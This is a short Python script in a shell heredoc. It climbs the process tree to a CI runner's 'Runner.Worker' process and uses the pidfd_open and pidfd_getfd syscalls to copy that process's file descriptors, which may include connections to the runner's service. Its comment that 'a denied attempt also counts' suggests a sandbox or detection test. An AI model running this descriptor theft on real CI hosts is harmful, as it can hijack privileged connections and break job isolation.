# Copies descriptors of the worker, which could be connections to the runner's service. A denied attempt also counts.
python3 - <<'PYTHON'
import ctypes
import os

call = ctypes.CDLL(None, use_errno=True).syscall
PIDFD_OPEN, PIDFD_GETFD = 434, 438
process = os.getppid()
while True:
    with open(f"/proc/{process}/stat") as stat:
        name, fields = stat.read().split("(", 1)[1].rsplit(")", 1)
    if name == "Runner.Worker":
        break
    process = int(fields.split()[1])
worker = call(PIDFD_OPEN, process, 0)
for number in range(16):
    call(PIDFD_GETFD, worker, number, 0)
PYTHON
